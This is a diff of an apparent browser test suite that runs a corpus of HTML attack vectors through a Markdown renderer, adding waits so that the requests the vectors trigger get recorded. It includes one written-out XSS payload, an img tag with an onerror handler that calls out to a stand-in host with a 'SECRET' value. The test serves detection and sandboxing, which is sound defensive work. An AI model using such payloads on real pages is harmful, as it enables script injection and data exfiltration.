@@ -5,6 +5,8 @@ import { isWhole, vectors } from "./corpora.ts";
 import type { Way } from "./page/attack.ts";
 import { servePages, type MarkdownPages } from "./page/serve.ts";
 
+const sleep = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
+
 /** Vectors name hosts of others: none may be asked, not even by mistake. */
 const CUT_OFF = "--host-resolver-rules=MAP * 127.0.0.1:9, EXCLUDE 127.0.0.1";
 
@@ -66,7 +68,12 @@ describe("attacks on Markdown", () => {
   it("would be seen by this test if they did something", async () => {
     const beacon = { id: "a picture", kind: "html", payload: '<img src="https://beacon.invalid/?d=SECRET" onerror="alert(1)">' } as const;
     const live = [...all.filter((vector) => vector.kind === "html").slice(0, 60), beacon];
-    const { structures, executions } = await withPage("/open", (page) => page.evaluate((list) => globalThis.markdown.raw(list), live));
+    const { structures, executions } = await withPage("/open", async (page) => {
+      const seen = await page.evaluate((list) => globalThis.markdown.raw(list), live);
+      // The browser tells of requests in its own time.
+      for (const end = Date.now() + 10_000; requests.length === 0 && Date.now() < end;) await sleep(20);
+      return seen;
+    });
     expect(structures).to.be.greaterThan(live.length / 3);
     expect(executions).to.be.greaterThan(0);
     expect(requests.length).to.be.greaterThan(0);
@@ -88,6 +95,8 @@ describe("attacks on Markdown", () => {
       void (own ? request.continue() : request.abort());
     });
     const result = await use(page);
+    // What a page asked for last is told of a little after it has answered.
+    await sleep(200);
     await context.close();
     return result;
   }
